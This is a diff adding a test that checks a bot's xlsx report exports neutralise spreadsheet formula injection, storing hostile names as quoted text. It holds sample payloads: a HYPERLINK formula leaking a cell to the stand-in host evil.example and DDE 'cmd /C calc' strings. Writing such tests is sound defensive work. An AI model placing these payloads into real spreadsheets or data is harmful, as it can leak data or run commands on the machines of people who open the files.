@@ -14,6 +14,7 @@ from matplotlib import image
 from sqlalchemy import select
 
 from bot.cli import main
+from storage.exports import is_risky
 from storage.models import OutboxMessage, OutboxStatus, Role
 
 
@@ -144,3 +145,57 @@ async def test_qualification_reports_from_the_command_line(run, world, tmp_path)
 
     _status, out, _err = await run("audit", "--action", "report", "--limit", "1")
     assert out.splitlines()[0].split("  ")[-2:] == ["report.qualifications", "P"]
+
+
+HOSTILE = {
+    "A1": '=HYPERLINK("http://evil.example/?"&A1,"Bấm vào đây")',
+    "A2": "-2+3+cmd|' /C calc'!A0",
+    "A3": "+84912345678",
+    "A5": "@SUM(1+1)*cmd|' /C calc'!A0",
+    "B1": "\t=1+2",
+    "B2": "#N/A",
+}
+CARRIAGE_RETURN = "\r=cmd"  # XML reads a raw CR back as LF: compared apart
+
+
+def _data_cells(path):
+    """Every cell holding a value, in every sheet of the workbook at ``path``."""
+    book = openpyxl.load_workbook(path)
+    return [cell for sheet in book for row in sheet.iter_rows() for cell in row if cell.value]
+
+
+async def test_no_roster_value_becomes_a_formula_in_a_workbook(run, session, world, tmp_path):
+    for code, name in [*HOSTILE.items(), ("A4", CARRIAGE_RETURN)]:
+        world.people[code].full_name = name
+    world.a.name = "=1+1"
+    await session.commit()
+
+    status, _out, _err = await run(
+        "report",
+        "qualifications",
+        "--unit",
+        "P",
+        "--format",
+        "xlsx",
+        "--on",
+        "01/11/2026",
+        "--output",
+        "q.xlsx",
+    )
+    assert status == 0
+    status, out, _err = await run("broadcast", "create", "--admin", "--unit", "P", "--text", "Họp")
+    assert status == 0
+    number = out.split("Thông báo #")[1].split()[0]
+    status, _out, _err = await run("broadcast", "report", number, "--admin", "--xlsx", "d.xlsx")
+    assert status == 0
+
+    for name in ("q.xlsx", "d.xlsx"):
+        cells = _data_cells(tmp_path / name)
+        assert {cell.data_type for cell in cells} <= {"s", "n"}, name
+        assert all(isinstance(cell.value, str) for cell in cells if cell.data_type == "s")
+        risky = [cell for cell in cells if cell.data_type == "s" and is_risky(cell.value)]
+        assert all(cell.quotePrefix for cell in risky), name  # text even once edited
+        assert set(HOSTILE.values()) <= {cell.value for cell in cells}, name  # kept as they are
+        (returned,) = [cell for cell in cells if str(cell.value).endswith("=cmd")]
+        assert returned.data_type == "s" and returned.quotePrefix
+    assert "=1+1, 01/11/2026" in {cell.value for cell in _data_cells(tmp_path / "q.xlsx")}
